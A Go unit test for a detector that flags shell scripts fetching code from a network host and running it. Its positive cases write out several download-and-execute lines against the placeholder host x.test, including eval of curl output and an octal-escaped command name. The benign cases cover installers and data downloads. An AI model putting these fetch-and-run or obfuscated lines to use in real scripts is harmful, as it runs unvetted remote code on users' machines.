package commands

import "testing"

func TestScript(t *testing.T) {
	for text, want := range map[string]bool{
		"wget -q http://x.test/i.sh\nsh i.sh\n":                                                            true,
		"curl http://x.test/a -o /tmp/y\nchmod +x /tmp/y\n/tmp/y\n":                                        true,
		"curl -sO http://x.test/a.sh\n. ./a.sh\n":                                                          true,
		"X=`curl -s http://x.test/x`\neval \"$X\"\n":                                                       true,
		"x=$(printf '\\143\\165')\n$x http://x.test/x -o z\n":                                              true,
		"wget https://repo.anaconda.com/miniconda/Miniconda3.sh -O m.sh\nbash m.sh -b -p ~/m\n":            false,
		"wget https://x.test/data.tar.gz\ntar xzf data.tar.gz\nbash run.sh\n":                              false,
		"curl -o model.bin https://x.test/m\npython eval.py model.bin\n":                                   false,
		"cmd=\"python train.py\"\neval $cmd\n":                                                             false,
		"V=$(curl -s https://x.test/version)\necho $V\n":                                                   false,
		"source env.sh\nfor f in *.json; do python a.py \"$f\"; done\neval \"$(conda shell.bash hook)\"\n": false,
		"# wget http://x.test/i.sh\nsh i.sh\n":                                                             false,
	} {
		if got := Script(text); len(got) > 0 != want {
			t.Errorf("%q: %+v", text, got)
		}
	}
}
